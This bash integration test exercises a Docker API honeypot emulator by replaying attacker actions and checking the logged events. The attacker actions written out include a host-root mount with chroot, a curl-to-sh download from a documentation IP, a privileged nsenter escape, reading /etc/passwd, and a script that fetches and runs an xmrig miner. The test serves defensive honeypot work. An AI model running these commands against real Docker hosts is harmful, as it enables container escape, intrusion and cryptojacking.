#!/usr/bin/env bash
# The docker CLI (Debian's docker.io; no engine runs) against the Docker API emulation, as an
# attacker drives it: version, pull then images, attached runs (the hijacked connection and the
# multiplexed stream) with a host mount, with a command and with a script on stdin, detached run,
# ps -a, exec into a decoy container, logs, inspect, cp of a script and of a 1 MB upload
# (streamed: hashes and excerpts only). Asserts what the client
# printed and exit codes, and the events of each step (argv, stdin lines, uploaded file hash).
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
need docker "apt-get install --no-install-recommends docker.io"
need jq "apt-get install jq"
# grep reading all its input: with pipefail, grep -q closing the pipe early fails the writer
has() { grep "$@" >/dev/null; }
need sha256sum "coreutils"

W=$(hp_workdir honeypot_docker)
trap 'kill "${HP_PID:-0}" 2>/dev/null || true' EXIT
hp_start "$W" -- --docker 0 --flush-ms 20
D=$(hp_port docker)
export HOME="$W/home" DOCKER_CONFIG="$W/home/.docker"
mkdir -p "$HOME"
dk() { timeout 20 docker -H "tcp://127.0.0.1:$D" "$@"; }
echo "docker: $(docker --version)"

dk version --format '{{.Server.Version}}' | has -x 20.10.24 || fail "version"
dk pull alpine:3.20 >/dev/null || fail "pull"
dk images --format '{{.Repository}}:{{.Tag}}' | has -x 'alpine:3.20' || fail "pulled image not listed: $(dk images)"
# the attached run that follows the first look: chroot into the host's root
dk run --rm -v /:/host alpine:3.20 chroot /host sh || fail "attached run exited $?"
out=$(dk run --name probe alpine:3.20 sh -c 'id; uname -a') || fail "attached run with output"
echo "$out" | has '^uid=0(root)' || fail "run output: $out"
echo "$out" | has '^Linux .* x86_64 Linux$' || fail "run output: $out"
out=$(printf 'whoami\ncurl -s http://203.0.113.9/k.sh | sh\n' | dk run -i alpine:3.20 sh) || fail "run -i"
[ "$out" = root ] || fail "stdin answers: $out"
id=$(dk run -d --privileged --pid=host alpine:3.20 nsenter -t 1 -m -u -n -i sh -c 'sleep 3600') || fail "run -d"
[ "${#id}" = 64 ] || fail "run -d id: $id"
ps=$(dk ps -a --format '{{.Names}} {{.Status}}')
echo "$ps" | has '^probe Exited (0)' || fail "ps -a: exited run not shown: $ps"
echo "$ps" | has "^${id:0:12} Up" || fail "ps -a: detached container: $ps"
echo "$ps" | has '^web Up' || fail "ps -a: decoys: $ps"
[ "$(dk ps -q | wc -l)" = 3 ] || fail "ps: running containers: $(dk ps)"
out=$(dk exec web sh -c 'cat /etc/passwd | head -1; whoami') || fail "exec"
[ "$out" = "$(printf 'root:x:0:0:root:/root:/bin/ash\nroot')" ] || fail "exec output: $out"
dk logs web | has 'GET / HTTP/1.1' || fail "logs"
dk inspect -f '{{.State.Running}} {{.Config.Image}}' web | has -x 'true nginx:1.23' || fail "inspect"
printf '#!/bin/sh\ncurl -s http://203.0.113.9/xmrig -o /tmp/x && /tmp/x -o pool.example.net:3333\n' >"$W/m.sh"
dk cp "$W/m.sh" web:/tmp/ || fail "cp"
# an upload far past the 64 KiB request limit streams through: a directory with a 1 MB file
mkdir -p "$W/kit/bin"
head -c 1000000 /dev/urandom >"$W/kit/bin/payload"
cp "$W/m.sh" "$W/kit/bin/run.sh"
dk cp "$W/kit" web:/opt/ || fail "cp of 1 MB"
mkdir -p "$W/out"
dk cp web:/etc/passwd "$W/out/" || fail "cp from the container"
head -1 "$W/out/passwd" | has '^root:x:0:0:' || fail "copied passwd: $(cat "$W/out/passwd")"
hp_stop

[ "$(hp_count '.eventid=="docker.image.create" and (.request.image|test("^(docker.io/library/)?alpine:3.20$"))')" = 1 ] || fail "pull event"
[ "$(hp_count '.eventid=="docker.container.create" and .request.binds==["/:/host"] and .request.cmd==["chroot","/host","sh"]')" = 1 ] || fail "create event"
[ "$(hp_count '.eventid=="docker.container.attach"')" -ge 3 ] || fail "attach events"
[ "$(hp_count '.eventid=="docker.stdin" and .request.line=="whoami"')" = 1 ] || fail "stdin line 1"
[ "$(hp_count '.eventid=="docker.stdin" and .request.line=="curl -s http://203.0.113.9/k.sh | sh" and (.payload_sha256|length)==64')" = 1 ] || fail "stdin line 2"
[ "$(hp_count '.eventid=="docker.container.create" and .request.privileged==true and .request.pid_mode=="host" and .request.cmd[0]=="nsenter"')" = 1 ] || fail "privileged create"
[ "$(hp_count '.eventid=="docker.exec.create" and .request.container=="web" and .request.cmd==["sh","-c","cat /etc/passwd | head -1; whoami"]')" = 1 ] || fail "exec create event"
[ "$(hp_count '.eventid=="docker.exec.start" and .request.cmd=="cat /etc/passwd | head -1; whoami"')" = 1 ] || fail "exec start event"
sum=$(sha256sum "$W/m.sh" | cut -d' ' -f1)
[ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/tmp/" and .request.files[0].name=="m.sh" and .request.files[0].sha256=="'"$sum"'" and ((.request.files[0].head // "")|test("xmrig"))')" = 1 ] \
  || fail "cp upload event"
big=$(sha256sum "$W/kit/bin/payload" | cut -d' ' -f1)
[ "$(hp_count '.eventid=="docker.container.archive.put" and .request.target=="/opt/" and .payload_size > 1000000 and ([.request.files[].name] == ["kit/","kit/bin/","kit/bin/payload","kit/bin/run.sh"] or [.request.files[].name] == ["kit/","kit/bin/","kit/bin/run.sh","kit/bin/payload"]) and (.request.files[] | select(.name=="kit/bin/payload") | .size==1000000 and .sha256=="'"$big"'" and (.head|length) <= 256) and (.request.files[] | select(.name=="kit/bin/run.sh") | .head|test("xmrig"))')" = 1 ] \
  || fail "1 MB cp upload event: $(hp_cat | grep archive.put | tail -1 | cut -c1-2000)"
[ "$(hp_count '.eventid=="docker.container.archive.get" and .request.target=="/etc/passwd"')" = 1 ] || fail "cp out event"
echo "ok: docker $(hp_count '.service=="docker" and (.eventid|startswith("session.")|not)') steps logged"
